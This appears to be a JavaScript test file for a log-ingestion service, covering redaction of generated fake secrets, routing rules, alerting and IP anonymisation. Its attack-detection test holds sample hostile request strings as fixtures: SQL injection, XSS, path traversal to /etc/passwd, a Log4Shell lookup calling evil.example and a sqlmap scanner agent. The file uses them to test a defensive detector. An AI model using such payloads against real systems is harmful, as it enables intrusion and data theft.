// What a record passes before it is stored: redaction, enrichment, attacks, rules, retention classes; and that what is
// redacted is nowhere at rest.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { gunzipSync } from "node:zlib";
import { ROOT, startTimberline, stateDir, until } from "./harness.mjs";
import { as, assertError, call, everything, flush, get, makeKey, makeTenant, randomOf, store } from "./helpers.mjs";

const UNLIMITED = { vars: { RATE_LIMIT_ENABLED: "false" } };
const INGEST = ["/logs", "/api/v1/logs", "/api/v1/logs/ingest", "/api/v1/logs/batch", "/api/v1/logs/ingest/batch"];

const send = (t, method, path, json) => call(t, path, { method, json });
const dry = async (t, record) => {
  const { status, body } = await call(t, "/logs?dry_run=true", { json: record });
  assert.equal(status, 200, JSON.stringify(body));
  return body.logs[0];
};

/** Values of each kind, made here so that none stands in a file. */
function planted() {
  const random = randomOf(17);
  const of = (letters, length) => Array.from({ length }, () => letters[Math.floor(random() * letters.length)]).join("");
  const upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ";
  const word = `${upper}${upper.toLowerCase()}0123456789`;
  const base = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");
  const luhn = (head) => {
    const sum = (digits) => [...digits].reverse().reduce((sum, digit, nth) => sum + (nth % 2 ? [0, 2, 4, 6, 8, 1, 3, 5, 7, 9][digit] : Number(digit)), 0);
    return [...Array(10).keys()].map((last) => `${head}${last}`).find((digits) => sum(digits) % 10 === 0);
  };
  const iban = (bank) => `AT${String(98n - (BigInt(`${bank}102900`) % 97n)).padStart(2, "0")}${bank}`;
  return {
    email: "jane.planted@home.example",
    phone: "+43 660 5550199",
    credit_card: luhn(`424242${of("0123456789", 9)}`),
    iban: iban(of("123456789", 16)),
    us_ssn: "219-09-4417",
    jwt: `${base({ alg: "HS256", typ: "JWT" })}.${base({ sub: "planted", iat: 1_700_000_000 })}.${of(word, 43)}`,
    aws: `AKIA${of(`${upper}234567`, 16)}`,
    github: `ghp_${of(word, 36)}`,
    stripe: `sk_live_${of(word, 24)}`,
    slack: `xoxb-${of("0123456789", 12)}-${of("0123456789", 12)}-${of(word, 24)}`,
    google: `AIza${of(word, 35)}`,
    private_key: `-----BEGIN PRIVATE KEY-----\n${of(word, 64)}\n${of(word, 64)}\n-----END PRIVATE KEY-----`,
    url: `https://svc:${of(word, 16)}@db.example.com/x`,
    password: `password=${of(word, 18)}`,
  };
}

/** What must not be found of a planted value. */
const secretOf = (kind, value) => ({ url: value.split(":")[2]?.split("@")[0], password: value.split("=")[1], private_key: value.split("\n")[1] })[kind] ?? value;

/** Every byte below a directory, by file. */
function* files(dir) {
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) yield* files(path);
    else yield [path, readFileSync(path)];
  }
}

describe("what is redacted", () => {
  test("is in no database, key, object or answer, before a flush and after", async (context) => {
    const persist = stateDir(context);
    const t = await startTimberline({ ...UNLIMITED, persist });
    context.after(() => t.dispose());
    const values = planted();
    const records = Object.entries(values).flatMap(([kind, value]) => [
      { service: "shop", message: `marker-${kind} before ${value} behind` },
      { service: "shop", message: `marker-${kind} x`, stack_trace: `Error: ${value}\n  at f (a.js:1)`, endpoint: `/x?q=${encodeURIComponent(value)}`, user_id: value },
      { service: "shop", message: `marker-${kind} y`, metadata: { a: { b: [value, { c: `<${value}>` }] }, [`k ${value}`]: 1 }, tags: [value] },
      { service: "shop", message: `marker-${kind} {"inner":${JSON.stringify(value)},"n":1}`, level: "CRITICAL", extra: value },
      { service: "shop", message: JSON.stringify({ msg: `marker-${kind}`, deep: { value } }) },
    ]);
    // Alone, where rows are kept as they are, and together, where they are compressed.
    for (const record of records.slice(0, 20)) assert.equal((await call(t, "/logs", { json: record })).status, 201);
    await store(t, records);
    await until(async () => (await get(t, "/admin/events")).data.length > 0, { what: "an event" });
    const look = async (marker) => {
      let seen = false;
      const texts = [["the export", Buffer.from(await (await t.fetch("/api/v1/logs/export")).text())], ...files(persist)];
      const bucket = await t.bucket();
      for (const { key } of await t.objects()) {
        const bytes = Buffer.from(await (await bucket.get(key)).arrayBuffer());
        texts.push([key, bytes[0] === 0x1f ? gunzipSync(bytes) : bytes]);
      }
      for (const [name, bytes] of texts) {
        seen ||= name !== "the export" && bytes.includes(marker);
        for (const [kind, value] of Object.entries(values)) {
          const secret = secretOf(kind, value);
          for (const form of [secret, encodeURIComponent(secret), JSON.stringify(secret).slice(1, -1)]) {
            assert.ok(!bytes.includes(form), `${kind} ${form} is in ${name}`);
          }
        }
      }
      assert.ok(texts[0][1].includes("marker-email") && seen, `${marker} is not found where the values are looked for`);
    };
    await look("marker-email before");
    await flush(t);
    await look("marker-email");
    for (const [kind, value] of Object.entries(values)) {
      if (!["phone", "password", "url", "private_key"].includes(kind)) {
        assert.equal((await get(t, `/logs?q=${encodeURIComponent(JSON.stringify(value))}`)).data.length, 0, kind);
      }
    }
  });

  test("is shown by a dry run on every ingest route, which stores nothing", async (context) => {
    const t = await startTimberline(UNLIMITED);
    context.after(() => t.dispose());
    const record = { service: "shop", message: `card ${planted().credit_card}`, endpoint: "/users/123", env: "prod", metadata: { password: "hunter2x" } };
    for (const path of INGEST) {
      const { status, body } = await call(t, `${path}?dry_run=true`, { json: path.endsWith("batch") ? [record, { service: "shop" }] : record });
      assert.equal(status, 200, JSON.stringify(body));
      const { message, endpoint, environment, metadata, redactions, tags, category, triage, retention_class } = body.logs[0];
      assert.deepEqual({ message, endpoint, environment, tags, triage, retention_class }, {
        message: "card [CREDIT_CARD]", endpoint: "/users/{id}", environment: "production", tags: [], triage: [], retention_class: "standard",
      });
      assert.equal(metadata.password, "[SECRET]");
      assert.equal(typeof category, "string");
      assert.deepEqual(redactions.map(({ kind, field, count }) => [kind, field, count]), [["credit_card", "message", 1], ["secret", "metadata.password", 1]]);
      assert.deepEqual(body.rejected.map(({ index, code }) => [index, code]), path.endsWith("batch") ? [[1, "missing_field"]] : []);
    }
    assert.deepEqual(await everything(t), []);
    assertError(await call(t, "/logs?dry_run=perhaps", { json: record }), 400, "invalid_parameter", "dry_run");
  });

  test("is as the tenant's policy says, and left alone only by an operator, who is written down", async (context) => {
    const t = await startTimberline(UNLIMITED);
    context.after(() => t.dispose());
    const policy = { kinds: { email: "tokenize", phone: "keep" }, custom: [{ name: "employee_id", pattern: "EMP-\\d{6}", strategy: "mask" }], allow: ["@ours.example"] };
    assert.equal((await send(t, "PUT", "/admin/redaction", policy)).status, 200);
    const { message } = await dry(t, { service: "a", message: "a@b.example A@b.example x@ours.example +43 660 5550199 EMP-123456" });
    assert.match(message, /^(\[EMAIL:[0-9a-f]{16}\]) \1 x@ours\.example \+43 660 5550199 \[EMPLOYEE_ID\]$/);
    const other = await makeTenant(t, "other");
    assert.equal((await dry(other, { service: "a", message: "a@b.example EMP-123456" })).message, "[EMAIL] EMP-123456");
    const tried = await send(t, "POST", "/admin/redaction/preview", { text: "a@b.example", policy: { kinds: { email: "partial" } } });
    assert.equal(tried.status, 200);
    assert.equal(tried.body.data[0].redactions[0].kind, "email");
    assertError(await send(t, "PUT", "/admin/redaction", { kinds: { emial: "mask" } }), 400, "invalid_value", "kinds.emial");
    for (const [role, status] of [["ingest", 403], ["operator", 201]]) {
      const who = as(t, (await makeKey(t, { role })).key);
      assert.equal((await call(who, "/logs?redact=false", { json: { service: "raw", message: "a@b.example" } })).status, status, role);
    }
    assert.equal((await get(t, "/logs?service=raw")).data[0].message, "a@b.example");
    await until(async () => (await get(t, "/admin/audit?q=component:unredacted")).data.length === 1, { what: "the audit record" });
  });
});

describe("rules", () => {
  let t;
  before(async () => (t = await startTimberline(UNLIMITED)));
  after(() => t?.dispose());

  test("tag, route, sample and drop what they hold for, and are counted", async () => {
    for (const rule of [
      { name: "noise", when: "level:DEBUG AND healthcheck", then: [{ action: "drop" }], stop: true },
      { name: "few", when: "component:cache", then: [{ action: "sample", one_in: 4 }] },
      { name: "money", when: "invoice", then: [{ action: "tag", tag: "money" }, { action: "route_class", class: "financial" }, { action: "notify", channel: "finance" }] },
    ]) {
      assert.equal((await send(t, "POST", "/admin/rules", rule)).status, 201, rule.name);
    }
    const traces = Array.from({ length: 200 }, (_, nth) => [0, 1].map((part) => ({ service: "c", component: "cache", message: `part ${part}`, trace_id: `trace-${nth}` }))).flat();
    const { body } = await call(t, "/api/v1/logs/batch", { json: [{ service: "a", level: "DEBUG", message: "healthcheck" }, { service: "a", message: "an invoice" }, ...traces] });
    assert.equal(body.accepted + body.dropped, 402);
    const kept = await everything(t, { service: "c" });
    const parts = new Map();
    for (const { trace_id, sample_rate } of kept) {
      assert.equal(sample_rate, 4);
      parts.set(trace_id, (parts.get(trace_id) ?? 0) + 1);
    }
    assert.ok([...parts.values()].every((count) => count === 2), "a trace is torn");
    assert.ok(parts.size > 25 && parts.size < 80, `${parts.size} of 200 traces`);
    const [invoice] = (await get(t, "/logs?service=a")).data;
    assert.deepEqual(invoice.tags, ["money"]);
    await flush(t);
    assert.ok((await t.objects("logs/default/financial/")).length === 1 && (await t.objects("logs/default/standard/")).length === 1);
    await until(async () => (await get(t, "/admin/rules/few")).held === 400 && (await get(t, "/admin/rules/noise")).held === 1, { ms: 15_000, what: "the counts" });
    const events = (await get(t, "/admin/events")).data;
    assert.deepEqual(events.map(({ rule, action, target, count }) => [rule, action, target, count]), [["money", "notify", "finance", 1]]);
    assertError(await send(t, "POST", "/admin/rules", { name: "bad", when: "level:loud", then: [{ action: "drop" }] }), 400, "invalid_value", "when");
    const tried = await send(t, "POST", "/admin/rules/test", { rule: { name: "t", when: "invoice", then: [{ action: "drop" }] } });
    assert.deepEqual([tried.body.held, tried.body.actions], [1, { drop: 1 }]);
  });

  test("drop a pattern by its id", async () => {
    const say = (message, more = {}) => ({ service: "patterned", message, ...more });
    await store(t, [1, 2, 3].map((n) => say(`cache miss for key ${n} after ${n * 7} ms`)));
    await flush(t);
    const [{ pattern_id }] = (await get(t, "/analytics/patterns?service=patterned")).data;
    assert.equal((await send(t, "POST", "/admin/rules", { name: "missed", when: `pattern_id:${pattern_id}`, then: [{ action: "drop" }] })).status, 201);
    const { body } = await call(t, "/api/v1/logs/batch", { json: [say("cache miss for key 9 after 1 ms"), say("cache hit for key 9"), say("cache miss for key 8 after 2 ms", { note: "ann@home.example" })] });
    assert.deepEqual([body.accepted, body.dropped], [1, 2]);
    assert.equal((await send(t, "DELETE", "/admin/rules/missed")).status, 200);
  });

  test("see attacks and many failed logins, and tell of them once", async () => {
    const line = (path, agent) => `203.0.113.9 - - [10/Oct/2026:13:55:36 +0000] "GET ${path} HTTP/1.1" 200 2326 "-" "${agent}"`;
    const agent = "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/130.0";
    for (const [path, who, tag] of [
      ["/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", agent, "attack:sqli"],
      ["/?q=%253Cscript%253Ealert(1)%253C/script%253E", agent, "attack:xss"],
      ["/download?file=../../../../etc/passwd", agent, "attack:path_traversal"],
      ["/?x=${jndi:ldap://evil.example/a}", agent, "attack:log4shell"],
      ["/", "sqlmap/1.5.2#stable", "attack:scanner"],
      ["/users/7?tab=orders", agent, undefined],
    ]) {
      const log = await dry(t, { service: "web", message: line(path, who) });
      assert.equal(log.tags.includes(tag), tag !== undefined, `${path}: ${log.tags}`);
      assert.equal(log.attacks.some((attack) => attack.tag === tag && attack.rule && attack.reason && attack.severity), tag !== undefined, path);
      assert.equal(log.retention_class, tag === undefined ? "standard" : "security");
    }
    const failed = { service: "sshd", message: "Failed password for root from 198.51.100.7 port 22 ssh2" };
    const window = () => Math.floor(Date.now() / 300_000);
    const began = window();
    const tags = [];
    for (let nth = 0; nth < 12; nth++) {
      const { body } = await call(t, "/logs", { json: failed });
      tags.push((await get(t, `/api/v1/logs/${body.id}`)).tags.includes("attack:brute_force"));
    }
    assert.deepEqual(tags.slice(0, 9), Array(9).fill(false));
    assert.deepEqual(tags.slice(-2), [true, true]);
    const alerts = async () => (await get(t, "/admin/events")).data.filter(({ rule, key }) => rule === "brute-force" && key.startsWith("login.address"));
    const told = async () => (await alerts()).reduce((sum, { count }) => sum + count, 0);
    await until(async () => (await told()) >= 2, { ms: 15_000, what: "the alert" });
    // One of the rule's window, and of those that began meanwhile.
    assert.ok((await alerts()).length <= 1 + window() - began, JSON.stringify(await alerts()));
  });
});

test("errors and critical logs are told of once for all that are alike, and stored as they were sent", async (context) => {
  const t = await startTimberline(UNLIMITED);
  context.after(() => t.dispose());
  const logs = Array.from({ length: 60 }, (_, n) => ({ service: "pay", level: n < 3 ? "CRITICAL" : "ERROR", message: `number ${n} was lost` }));
  const ids = await store(t, logs);
  const told = async (name) => (await get(t, "/admin/events")).data.filter(({ rule }) => rule === name);
  await until(async () => (await told("error-burst")).length > 0, { ms: 15_000, what: "the burst" });
  const [[critical], [burst]] = [await told("critical"), await told("error-burst")];
  assert.deepEqual([critical.count, critical.message, critical.log_id, critical.service], [3, "number 0 was lost", ids[0], "pay"]);
  // The fiftieth is the first that is told of.
  assert.deepEqual([burst.count, burst.message, burst.log_id, burst.key], [11, "number 49 was lost", ids[49], "service=pay"]);
  const log = await get(t, `/api/v1/logs/${ids[49]}`);
  assert.deepEqual([log.level, log.message, log.tags ?? []], ["ERROR", "number 49 was lost", []]);
});

test("steps that are switched off leave logs as they were sent, before a flush and after", async (context) => {
  const t = await startTimberline(UNLIMITED);
  context.after(() => t.dispose());
  const off = { enrichment: false, attacks: false, patterns: false };
  assert.deepEqual((await send(t, "PUT", "/admin/pipeline", off)).body, off);
  const sent = { service: "web", env: "prod", endpoint: "/users/7", message: "WARN GET /?q=1%27%20UNION%20SELECT%20card%20FROM%20users-- of jane@home.example" };
  await store(t, [sent]);
  for (const step of ["fresh", "flushed"]) {
    const { data } = await get(t, "/logs/search?service=web");
    const [log] = data;
    assert.deepEqual([data.length, log.environment, log.endpoint, log.level], [1, "prod", "/users/7", "INFO"], step);
    assert.deepEqual([log.tags, log.category, log.pattern_id], [undefined, undefined, undefined], step);
    // Redaction has a switch of its own.
    assert.match(log.message, /of \[EMAIL\]$/, step);
    await flush(t);
  }
  const on = { enrichment: true, attacks: true, patterns: true };
  assert.deepEqual((await send(t, "PUT", "/admin/pipeline", {})).body, on);
  const log = await dry(t, sent);
  assert.deepEqual([log.environment, log.level, log.tags, log.category], ["production", "WARN", ["attack:sqli"], "security"]);
  assert.deepEqual(t.logs, []);
});

test("a record is kept with who sent it and what its text tells", async (context) => {
  const t = await startTimberline(UNLIMITED);
  context.after(() => t.dispose());
  const log = await dry(t, { service: "web", message: "lvl=warn msg=hello duration=1.5s user=bob" });
  assert.equal(log.level, "WARN");
  assert.equal(log.duration_ms, 1500);
  assert.deepEqual(Object.keys(log.metadata.client).sort(), ["asn", "colo", "country", "user_agent"]);
  const id = (await store(t, [{ service: "web", message: "m", environment: "prod", endpoint: "/users/7" }]))[0];
  for (const query of ["environment=prod", "environment=production", "endpoint=/users/7", "q=endpoint:%22/users/%7Bid%7D%22"]) {
    assert.deepEqual((await get(t, `/logs?${query}`)).data.map((found) => found.id), [id], query);
  }
  assert.equal((await get(t, "/logs?endpoint=/users/8")).data.length, 0);
});

test("addresses become those of networks on their day, once, and the full ones are then nowhere in the bucket", async (context) => {
  const t = await startTimberline({ vars: { ...UNLIMITED.vars, DEFAULT_TTL_DAYS: "365" } });
  context.after(() => t.dispose());
  const [day, now] = [86_400_000, Date.now()];
  const nightly = async (days) => assert.equal((await t.cron("0 2 * * *", now + days * day)).outcome, "ok");
  const marks = async () => (await t.rows("SELECT tenant, anonymised FROM segments ORDER BY tenant")).map(({ tenant, anonymised }) => `${tenant} ${anonymised}`);
  const logs = async (of) => (await everything(of)).map(({ r2_key, ...log }) => log);
  const visits = Array.from({ length: 50 }, (_, n) => ({
    service: "web", message: `visit ${n} of 203.0.113.77 and 2001:db8:1:2::3`, user_id: `user-${n}`, timestamp: now - n * 1_000, metadata: { client: { ip: "203.0.113.78" }, n },
  }));
  const acme = await makeTenant(t, "acme");
  assert.equal((await send(acme, "PUT", "/admin/retention", { anonymize_ip_after_days: 80 })).status, 200);
  for (const of of [t, acme]) {
    await store(of, visits);
    await flush(of);
  }
  const before = await logs(t);
  await nightly(59.9);
  assert.deepEqual(await logs(t), before);
  const cut = JSON.parse(JSON.stringify(before).replaceAll(/203\.0\.113\.\d+/g, "203.0.113.0").replaceAll("2001:db8:1:2::3", "2001:db8:1::"));
  await nightly(60.1);
  assert.deepEqual(await logs(t), cut);
  assert.equal((await get(acme, "/logs?q=203.0.113.77&limit=100")).data.length, 50);
  assert.deepEqual((await marks()).filter((row) => !row.includes("_audit")), ["acme 0", "default 1"]);
  await nightly(80.1);
  for (const of of [t, acme]) {
    assert.deepEqual((await logs(of)).map(({ message }) => message).sort(), cut.map(({ message }) => message).sort());
    for (const [query, found] of [["203.0.113.77", 0], ["%222001:db8:1:2::3%22", 0], ["203.0.113.0", 50], ["%222001:db8:1::%22", 50], ["client.ip:203.0.113.0", 50], ["user_id:user-7", 1]]) {
      assert.equal((await get(of, `/logs?q=${query}&limit=100`)).data.length, found, query);
    }
  }
  await t.cron("*/5 * * * *", now + 82 * day);
  const own = (await t.objects("logs/")).map(({ key }) => key).filter((key) => !key.includes("_audit"));
  assert.equal(own.length, 2);
  const file = join(stateDir(context), "segment.seg.gz");
  for (const key of own) {
    writeFileSync(file, Buffer.from(await (await (await t.bucket()).get(key)).arrayBuffer()));
    const rows = execFileSync("python3", [join(ROOT, "docs/read-a-segment.py"), file], { encoding: "utf8" });
    assert.ok(rows.includes("visit 49 of 203.0.113.0 and 2001:db8:1::") && !/113\.7|db8:1:2/.test(rows), rows);
  }
  // Nothing is written again, and a catalog that is made again knows it from the objects.
  await t.rows("DELETE FROM segments");
  assert.equal((await call(t, "/admin/self-healing/actions", { json: { action: "execute", actionId: "rebuild-catalog" } })).body.status, "done");
  assert.deepEqual((await marks()).filter((row) => !row.includes("_audit")), ["acme 1", "default 1"]);
  await nightly(90);
  assert.deepEqual((await t.objects("logs/")).map(({ key }) => key).filter((key) => !key.includes("_audit")), own);
  assert.deepEqual(await logs(t), cut);
});
